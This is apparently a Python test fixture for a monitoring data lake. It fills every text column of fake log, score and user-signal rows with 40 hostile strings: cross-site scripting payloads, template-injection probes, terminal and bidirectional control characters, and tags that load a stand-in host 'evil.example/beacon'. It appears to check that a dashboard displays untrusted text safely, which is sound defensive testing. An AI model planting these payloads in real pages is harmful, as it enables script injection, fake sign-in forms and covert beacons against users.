"""Texts that try to be more than text on a page, and rows that have them in every column that a page shows."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import timedelta
from typing import Any

from lake.spec.case_tables import GROUND_TRUTH
from lake.spec.schemas import USER_SIGNALS
from lake.tables.lake import Lake
from tests.monitor.conftest import NOW, ScoreColumns

BEACON = "//evil.example/beacon"
PAYLOADS = (
    "<script>document.title='PWNED'</script>",
    f"<script src='{BEACON}'></script>",
    "<ScRiPt>document.title='PWNED'</sCrIpT>",
    "</script><script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    f"<img src='http:{BEACON}'>",
    f"<IMG SRC=`http:{BEACON}`>",
    "<svg onload=document.title='PWNED'>",
    "<svg><script>document.title='PWNED'</script></svg>",
    "<body onload=document.title='PWNED'>",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
    f"<iframe src='http:{BEACON}'></iframe>",
    f"<link rel=stylesheet href='http:{BEACON}'>",
    f"<style>@import 'http:{BEACON}'; body {{ display: none }}</style>",
    f"<style>body {{ background: url(http:{BEACON}) }}</style>",
    f"<meta http-equiv=refresh content='0;url=http:{BEACON}'>",
    f"<base href='http:{BEACON}/'>",
    f"<form action='http:{BEACON}'><button autofocus>Sign in</button></form>",
    "<a href=\"javascript:document.title='PWNED'\">click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    f"<a href='http:{BEACON}' ping='http:{BEACON}'>click</a>",
    "javascript:document.title='PWNED'",
    '" onmouseover="document.title=\'PWNED\'" x="',
    "' autofocus onfocus='document.title=\"PWNED\"' x='",
    "\"><script>document.title='PWNED'</script>",
    "--><script>document.title='PWNED'</script><!--",
    "</textarea></title></style></pre></select><script>document.title='PWNED'</script>",
    "</details></section></main></body></html><script>document.title='PWNED'</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='PWNED'>",
    f"<object data='http:{BEACON}'></object><embed src='http:{BEACON}'>",
    f"<video poster='http:{BEACON}' src='http:{BEACON}' autoplay></video>",
    f"<input type=image src='http:{BEACON}'>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt; &#60;script&#62;",
    "\u202egnp.exe \u2066 \u2067 \u061c \u200f reversed",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b2J",
    "nul \x00 bell \x07 back \x08 vertical \x0b delete \x7f",
    "zero\u200bwidth \ufeff \u2028 \u2029 \u00ad tags \U000e0041",
    "+ADw-script+AD4-document.title='PWNED'+ADw-/script+AD4-",
    "a\u0300\u0301\u0302" * 60 + " 🦜‍🏴‍☠️ العربية עברית ﷽",
)
"""40 of them."""
LONG = "x" * 1_000_000
"""A line without a space."""


def add_rows(rows: ScoreColumns, lake: Lake, deployment: str, texts: Sequence[str]) -> None:
    """Write an answer for each text, which stands in each column that holds a text of somebody else, ids too."""
    every = [_rows_of(deployment, number, text) for number, text in enumerate(texts)]
    rows.logs(deployment, *(row for one in every for row in one["logs"]))
    rows.scores(deployment, *(one["score"] for one in every))
    lake.table(GROUND_TRUTH, deployment).append(GROUND_TRUTH.rows([one["case"] for one in every]))
    lake.table(USER_SIGNALS, deployment).append(USER_SIGNALS.rows([one["signal"] for one in every]))


def event_id(number: int, text: str) -> str:
    """The `event_id` of the answer of a text."""
    return f"event {number} {text[:300]}"


def _rows_of(deployment: str, number: int, text: str) -> dict[str, Any]:
    at = NOW - timedelta(minutes=number)
    place = {"event_id": event_id(number, text), "requested_at": at, "date": at.date(), "response_id": text}
    row: dict[str, Any] = place | dict.fromkeys(
        ("question", "standalone_question", "answer", "error", "model", "chat_id", "finish_reason", "user_title",
         "assembled_response", "response_body", "extra", "contexts_origin"), text,
    )  # fmt: skip
    context = {"text": text, "title": text, "url": text, "page": 3, "id": text}
    row |= {"response_ids": [text], "repairs": [text], "contexts": [context, {"text": "x", "url": text}]}
    row |= {"request_body": json.dumps({"messages": [{"role": text, "content": text}, {"role": "user"}]})}
    row |= {"trace_id": f"{number:032}", "span_id": "1" * 16}
    child = {"event_id": f"child {number} {text[:300]}", "kind": text, "is_entry": False, "span_id": "2" * 16}
    child |= {"parent_span_id": "1" * 16, "parent_deployment": deployment}
    claim = {"fact": text, "contexts": [0], "verdict": "N", "reason": text}
    details = {"unsupported": [[0, 3], [5, 9]], "facts_ranks": [0, -1], "facts_places": [[1, 4], None]}
    details |= {"case_id": f"case {number}", "facts": [claim], text: text}
    score = place | {"score_id": str(number), "value": 0.5, "metric": f"m {text[:200]}", "details": json.dumps(details)}
    signal = {"signal_id": str(number), "signaled_at": at, "deployment": deployment, "date": at.date()}
    signal |= dict.fromkeys(("response_id", "signal", "origin", "user_id"), text)
    return {
        "logs": [row, row | child],
        "score": score | dict.fromkeys(("metric_version", "judge", "reason"), text),
        "case": {"case_id": f"case {number}", "deployment": deployment, "facts": [text + "a", text + "b"]},
        "signal": signal | {"details": json.dumps({"comment": text})},
    }
